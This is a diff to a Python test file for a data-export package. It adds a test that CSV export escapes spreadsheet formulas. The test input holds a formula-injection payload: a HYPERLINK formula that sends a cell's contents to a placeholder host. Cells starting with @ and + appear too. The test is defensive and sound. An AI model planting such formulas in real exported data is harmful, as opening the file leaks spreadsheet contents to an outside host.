@@ -12,9 +12,12 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from portrayal.csvfile import read_csv
 from portrayal.errors import StorageError, UnknownNameError
 from portrayal.store.workspace import SCHEMAS
 from portrayal.study.exporting import FORMATS, export_tables
+from portrayal.study.plan import plan
+from portrayal.study.run_control import RunControl
 from portrayal.study.study import Study
 
 
@@ -46,6 +49,17 @@ def test_all_tables_leave_when_none_is_named(finished: Path, tmp_path: Path, for
     paths = export_tables(Study(finished), tmp_path / "deep" / "out", form)
     assert [path.name for path in paths] == [f"{name}.{form}" for name in SCHEMAS]
     assert sorted(paths) == sorted((tmp_path / "deep" / "out").iterdir())
+
+
+def test_what_a_spreadsheet_would_run_leaves_as_text(make_study: Callable[..., Path], tmp_path: Path) -> None:
+    study = Study(make_study(prompts='text,term\n"=HYPERLINK(""http://x/?""&A1)",@a\n-5,+a\n'))
+    plan(study, RunControl())
+    (path,) = export_tables(study, tmp_path / "out", "csv", ["prompts"])
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = [(line["text"], line["term"]) for line in csv.DictReader(file)]
+    assert cells == [('\'=HYPERLINK("http://x/?"&A1)', "'@a"), ("-5", "'+a")]
+    rows = read_csv(path, [], SCHEMAS["prompts"].names)
+    assert [(row["text"], row["term"]) for row in rows] == [('=HYPERLINK("http://x/?"&A1)', "@a"), ("-5", "+a")]
 
 
 @pytest.mark.parametrize("name", ["prompts", "jobs", "outcomes", "observations", "measurements", "truths"])
